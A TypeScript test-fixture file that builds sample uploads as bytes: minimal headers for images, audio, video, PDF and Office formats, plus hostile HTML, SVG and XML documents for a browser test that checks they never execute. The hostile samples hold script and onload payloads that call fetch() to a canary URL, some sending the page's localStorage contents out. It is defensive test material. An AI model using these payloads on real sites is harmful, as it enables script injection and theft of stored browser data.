// Files a customer might send, as bytes: real headers of the formats we recognise, and hostile documents
// (HTML, SVG, XML with script) that must never be served as what they claim. `canary` is a URL the hostile
// ones call, so a browser test can tell whether their script (or any subresource) ever ran.

const bytes = (...parts: (string | number[])[]): Uint8Array => {
  const out: number[] = [];
  for (const p of parts) {
    if (typeof p === 'string') for (const ch of p) out.push(ch.charCodeAt(0) & 0xff);
    else out.push(...p);
  }
  return Uint8Array.from(out);
};

const base64 = (s: string) => Uint8Array.from(atob(s), (c) => c.charCodeAt(0));

/** A complete 1×1 PNG. */
export const PNG = base64(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
);
/** A minimal JPEG: SOI, a JFIF APP0 segment and EOI. */
export const JPEG = bytes(
  [0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10],
  'JFIF',
  [0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9],
);
export const GIF = bytes('GIF89a', [1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x3b]);
export const WEBP = bytes(
  'RIFF',
  [0x1a, 0, 0, 0],
  'WEBPVP8L',
  [0x0d, 0, 0, 0, 0x2f, 0, 0, 0, 0x10, 0x07, 0x10],
);
/** A small but well-formed PDF (one empty page). */
export const PDF = bytes(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n',
  '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);
/** The first page of an Ogg Opus voice note (WhatsApp's audio): capture pattern, then the OpusHead packet. */
export const OGG_OPUS = bytes(
  'OggS',
  [0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0x4e, 0x61, 0xbc, 0x26, 0, 0, 0, 0, 0x9c, 0x3f, 0x5c, 0x2a, 1, 0x13],
  'OpusHead',
  [1, 1, 0x38, 1, 0x80, 0xbb, 0, 0, 0, 0, 0],
);
export const MP3 = bytes('ID3', [4, 0, 0, 0, 0, 0, 0, 0xff, 0xfb, 0x90, 0x64, 0, 0, 0, 0]);
export const MP4 = bytes([0, 0, 0, 0x18], 'ftypisom', [0, 0, 2, 0], 'isomiso2avc1mp41');
export const THREE_GP = bytes([0, 0, 0, 0x14], 'ftyp3gp4', [0, 0, 0, 0], '3gp4isom');
export const M4A = bytes([0, 0, 0, 0x1c], 'ftypM4A ', [0, 0, 0, 0], 'M4A mp42isom', [0, 0, 0, 0]);
export const WEBM = bytes([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01], 'B\u00f7\u0081\u0001webm');
/** ZIP local file headers naming a Word document's parts (as a .docx starts). */
export const DOCX = bytes(
  [0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0],
  [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x13, 0, 0, 0],
  '[Content_Types].xml',
  [0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0],
  [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x11, 0, 0, 0],
  'word/document.xml',
);
export const XLSX = bytes([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0], 'xl/workbook.xml');
export const ZIP = bytes([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0], 'fotos/1.jpg');
/** A legacy Office (OLE2 compound file) header: the bytes alone do not say Word or Excel. */
export const OLE = bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Array(24).fill(0));
export const TEXT = new TextEncoder().encode('Número do contrato: 123\nEndereço: Rua das Flores, 10\n');
export const CSV = new TextEncoder().encode('nome;plano\nAna;300 Mega\n');

export function hostileHtml(canary: string): Uint8Array {
  return new TextEncoder().encode(
    `<!doctype html><html><head><title>fatura</title></head><body><h1>Sua fatura</h1>
<img src="${canary}/img">
<script>
  localStorage.setItem('fio-pwned', 'html');
  document.title = 'PWNED by html';
  fetch('${canary}/html-script?storage=' + encodeURIComponent(JSON.stringify(localStorage)));
</script></body></html>`,
  );
}

export function hostileSvg(canary: string): Uint8Array {
  return new TextEncoder().encode(
    `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="fetch('${canary}/svg-onload')">
  <script>localStorage.setItem('fio-pwned', 'svg'); document.title = 'PWNED by svg';
  fetch('${canary}/svg-script?storage=' + encodeURIComponent(JSON.stringify(localStorage)));</script>
  <image href="${canary}/svg-image" width="10" height="10"/>
  <rect width="100" height="100" fill="red"/>
</svg>`,
  );
}

export function hostileXml(canary: string): Uint8Array {
  return new TextEncoder().encode(
    `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">fetch('${canary}/xml')</x:script>`,
  );
}

/** Markup behind a byte-order mark and blank lines, still markup. */
export function hostileHtmlPadded(canary: string): Uint8Array {
  return new TextEncoder().encode(`\uFEFF\n\n   <html><script>fetch('${canary}/padded')</script></html>`);
}
